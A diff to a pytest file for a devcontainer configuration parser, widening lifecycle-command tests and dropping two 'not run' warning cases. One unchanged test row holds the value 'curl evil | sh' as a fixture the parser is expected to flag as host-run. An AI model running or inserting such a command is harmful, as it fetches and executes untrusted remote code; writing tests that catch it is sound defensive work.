@@ -356,9 +356,11 @@ def test_unknown_build_keys_are_reported():
     ],
 )
 def test_lifecycle_command_shapes(value, expected):
-    env = parse({"image": "x", "postCreateCommand": value, "postStartCommand": value})
-    assert env.post_create == LifecycleCommand(commands=expected)
-    assert env.post_start == LifecycleCommand(commands=expected)
+    keys = ("onCreateCommand", "updateContentCommand", "postCreateCommand", "postStartCommand")
+    env = parse({"image": "x", **dict.fromkeys(keys, value)})
+    for got in (env.on_create, env.update_content, env.post_create, env.post_start):
+        assert got == LifecycleCommand(commands=expected)
+    assert env.warnings == []
 
 
 @pytest.mark.parametrize("value", [None, "", "   ", [], {}, {"a": ""}])
@@ -429,8 +431,6 @@ def test_unknown_mount_options_are_reported_not_passed_on():
         ("features", {"ghcr.io/devcontainers/features/go:1": {}}, "bake them into your Dockerfile"),
         ("runArgs", ["--privileged"], "runArgs"),
         ("initializeCommand", "curl evil | sh", "runs on the host"),
-        ("onCreateCommand", "make", "onCreateCommand is not run"),
-        ("updateContentCommand", "make", "updateContentCommand is not run"),
         ("postAttachCommand", "make", "postAttachCommand is not run"),
         ("appPort", [8080], "appPort"),
         ("privileged", True, "privileged"),
